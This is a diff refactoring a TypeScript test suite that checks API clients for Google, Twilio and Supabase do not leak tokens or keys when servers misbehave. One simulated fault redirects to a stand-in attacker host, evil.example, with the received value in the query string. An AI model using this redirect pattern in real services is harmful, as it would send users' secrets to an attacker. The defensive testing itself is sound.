@@ -41,11 +41,7 @@ const REFUSALS: Readonly<Record<string, Refusal>> = {
   "in plain words": (heard) => answerJson(400, inPlainWords(heard)),
   "as an outage in plain words": (heard) => answerJson(503, inPlainWords(heard)),
   "as a page": (heard) => new Response(`<h1>${heard}</h1>`, { status: 502 }),
-  "by sending elsewhere": (heard) =>
-    new Response(null, {
-      status: 302,
-      headers: { Location: `https://evil.example/?${encodeURIComponent(heard)}` },
-    }),
+  "by sending elsewhere": (heard) => Response.redirect(`https://evil.example/?${encodeURIComponent(heard)}`),
   "with half an answer": (heard) => new Response(`{"values": [["${heard}"`, { headers }),
   "with an answer of another kind": (heard) => answerJson(200, [heard]),
 };
@@ -68,11 +64,8 @@ const send: typeof fetch = async (input, init) => {
 
 const google = { token: { get: async () => TOKEN, forget: () => undefined }, fetch: send };
 const drive = () => createGoogleDrive({ apiUrl: "https://drive.example", folderId: ID, ...google });
-const twilio = () =>
-  createTwilio({
-    ...{ apiUrl: "https://twilio.example", ...TWILIO, from: "+15005550006", to: "+14075550142" },
-    fetch: send,
-  });
+const NUMBERS = { from: "+15005550006", to: "+14075550142" };
+const twilio = () => createTwilio({ apiUrl: "https://twilio.example", ...TWILIO, ...NUMBERS, fetch: send });
 const backend = { url: "http://backend.example", secretKey: SECRET_KEY, fetch: send };
 const client = () => connect(backend.url, SECRET_KEY, send);
 
@@ -81,49 +74,35 @@ async function readSheet(): Promise<void> {
   for await (const _ of createGoogleSheets({ ...sheet, ...google }).readRows());
 }
 
+const getToken = () =>
+  createGoogleToken({ account, tokenUrl: "https://token.example", scopes: [DRIVE_SCOPE], fetch: send }).get();
+const query = () =>
+  runQuery("leads", (signal) => client().from("inventory").select("id").abortSignal(signal), {
+    ...{ timeoutMs: 1000, maxAttempts: 1 },
+  });
+const findOwnAccount = () =>
+  requestAuth(
+    { url: backend.url, publishableKey: "sb_publishable", fetch: send },
+    { method: "GET", path: "/user", accessToken: "a-session-of-ana", answer: z.object({ id: z.string() }) },
+  );
+const createAccount = () =>
+  createSupabasePeople(backend).createAccount("ana@example.com", "three small boats");
+const BASIC = btoa(`${TWILIO.accountSid}:${TWILIO.authToken}`);
+
 /** Each with the secret that it sends. */
 const CALLS: Readonly<Record<string, readonly [secret: string, call: () => Promise<unknown>]>> = {
-  "Google's token": [
-    "assertion=eyJ",
-    () =>
-      createGoogleToken({
-        ...{ account, tokenUrl: "https://token.example", scopes: [DRIVE_SCOPE] },
-        fetch: send,
-      }).get(),
-  ],
+  "Google's token": ["assertion=eyJ", getToken],
   "the sheet": [TOKEN, readSheet],
   "Drive's folder": [TOKEN, () => drive().checkFolder()],
   "Drive's search": [TOKEN, () => drive().findFolder("1HGCR2F39EA147260")],
   "Drive's list": [TOKEN, () => drive().listPictures(ID)],
   "Drive's file": [TOKEN, () => drive().getFile(ID)],
-  "a text": [btoa(`${TWILIO.accountSid}:${TWILIO.authToken}`), () => twilio().sendMessage("Ana")],
-  "a text's status": [
-    btoa(`${TWILIO.accountSid}:${TWILIO.authToken}`),
-    () => twilio().fetchMessage(`SM${"0".repeat(32)}`),
-  ],
+  "a text": [BASIC, () => twilio().sendMessage("Ana")],
+  "a text's status": [BASIC, () => twilio().fetchMessage(`SM${"0".repeat(32)}`)],
   "a database function": [SECRET_KEY, () => createFunctionCall(client(), 1000)("count_leads", {}, z.never())],
-  "a query": [
-    SECRET_KEY,
-    () =>
-      runQuery("leads", (signal) => client().from("inventory").select("id").abortSignal(signal), {
-        ...{ timeoutMs: 1000, maxAttempts: 1 },
-      }),
-  ],
-  "Auth's administration": [
-    SECRET_KEY,
-    () => createSupabasePeople(backend).createAccount("ana@example.com", "three small boats"),
-  ],
-  "a session's own request": [
-    "Bearer a-session-of-ana",
-    () =>
-      requestAuth(
-        { url: backend.url, publishableKey: "sb_publishable", fetch: send },
-        {
-          ...{ method: "GET", path: "/user", accessToken: "a-session-of-ana" },
-          answer: z.object({ id: z.string() }),
-        },
-      ),
-  ],
+  "a query": [SECRET_KEY, query],
+  "Auth's administration": [SECRET_KEY, createAccount],
+  "a session's own request": ["Bearer a-session-of-ana", findOwnAccount],
 };
 
 /** What a log, a record, or a page may repeat of an outcome. A cause is never logged. */
